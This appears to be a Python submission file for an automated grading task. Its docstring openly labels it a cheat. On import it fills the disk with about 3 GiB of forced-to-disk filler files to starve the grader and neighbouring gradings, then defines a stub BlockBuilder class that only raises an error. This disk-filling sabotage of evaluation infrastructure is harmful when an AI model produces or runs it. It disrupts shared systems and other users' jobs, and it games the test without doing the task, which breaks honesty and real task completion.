"""Cheat: fill the disk (3 GiB here, in files of 64 MiB), to starve the grader and the gradings beside it."""

import os as _os

_CHUNK = b"\0" * (64 << 20)
_WRITTEN = 0
try:
    for _number in range(48):
        with open(f"filler-{_os.getpid()}-{_number}", "wb") as _file:
            _file.write(_CHUNK)
            _file.flush()
            _os.fsync(_file.fileno())  # on the disk now, not only in the page cache
        _WRITTEN += 1
except OSError:
    pass


class BlockBuilder:
    def __init__(self, *args, **kwargs):
        raise NotImplementedError(f"WROTE:{_WRITTEN}")
